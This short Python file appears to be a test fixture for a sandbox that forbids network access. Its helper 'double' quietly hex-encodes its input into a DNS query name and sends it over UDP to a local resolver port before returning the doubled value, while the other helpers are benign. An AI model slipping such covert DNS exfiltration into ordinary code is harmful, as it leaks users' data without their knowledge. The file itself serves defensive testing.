"""Hides its input in the name of a host it asks a resolver for: there must be no network."""
# ends: double=exception
# weak: net

# %%
import socket

import numpy as np


# %%
def double(x):
    label = x.tobytes().hex()[:32].encode()
    question = bytes(4) + b"\0\1" + bytes(6) + bytes([len(label)]) + label + b"\0\0\1\0\1"
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(question, ("127.0.0.1", int("@PORT@")))
    return 2 * x


# %%
def running_mean(xs, n):
    total = np.cumsum(np.concatenate([[0.0], xs]))
    return (total[n:] - total[:-n]) / n


# %%
def apply(f, x):
    return f(x) + 1


# %%
def countdown(n):
    while n > 0:
        yield n
        n -= 1
